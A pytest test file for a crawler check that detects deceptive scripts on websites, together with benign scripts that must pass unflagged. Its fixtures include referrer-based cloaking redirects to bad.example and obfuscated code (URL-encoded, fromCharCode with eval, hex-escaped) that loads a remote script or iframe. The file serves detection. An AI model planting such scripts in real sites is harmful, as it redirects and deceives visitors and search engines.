"""script_deceptive: what scripts do in secret, and what ordinary scripts do."""

import pytest

from tests.crawler_checks.sites import findings_of, html, outline

CHECK = "script_deceptive"
CODES = ",".join(str(ord(sign)) for sign in 'location.href="http://bad.example/"')
HEXED = "".join(f"\\x{ord(sign):02x}" for sign in '<iframe src="http://bad.example/">')


def ask(script: str) -> list[tuple[str, str, str | None]]:
    return outline(findings_of(CHECK, {"/": html(f"<p>正文</p><script>{script}</script>")}))


@pytest.mark.parametrize(
    ("script", "deceit"),
    [
        ('if(document.referrer.indexOf("baidu")>0){location.href="http://bad.example/"}', "sends_searchers"),
        (
            "var r=document.referrer;if(/sogou|so\\.com/.test(r)){window.location.replace('//bad.example/x')}",
            "sends_searchers",
        ),
        ('if(/Baiduspider/i.test(navigator.userAgent)){document.title="x"}', "shows_engines"),
        (
            'document.write(unescape("%3Cscript src=%22http%3A//bad.example/a.js%22%3E%3C/script%3E"))',
            "encoded",
        ),
        (
            f"eval(String.fromCharCode({CODES}))",
            "encoded",
        ),
        (
            f'document["write"]("{HEXED}")',
            "encoded",
        ),
    ],
)
def test_what_is_done_in_secret_is_found(script: str, deceit: str) -> None:
    assert ask(script) == [("fail", "/", deceit)]


@pytest.mark.parametrize(
    "script",
    [
        'if(/Android|iPhone/i.test(navigator.userAgent)){location.href="/m/"}',
        'if(navigator.userAgent.indexOf("MicroMessenger")>0){location.href="http://wx.example/"}',
        'var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?1";',
        'var from=document.referrer;if(from==""){history.back()}',
        'document.write(unescape("%u9738%u5DDD%u5E02%u4EBA%u6C11%u653F%u5E9C%u95E8%u6237%u7F51%u7AD9"))',
        'document.write(unescape("%3Cspan id=%22cnzz%22%3E%3C/span%3E%3Cb%3E%3C/b%3E"))',
        'var s="\\x3cdiv class=\\x22a\\x22\\x3e\\x3c/div\\x3e";',
    ],
)
def test_ordinary_scripts_are_none(script: str) -> None:
    assert ask(script) == []


def test_an_address_of_government_is_to_be_looked_at() -> None:
    script = 'document.write(unescape("%3Cscript src=%22http%3A//www.other.gov.cn/a.js%22%3E%3C/script%3E"))'
    assert ask(script) == [("unknown", "/", "encoded")]
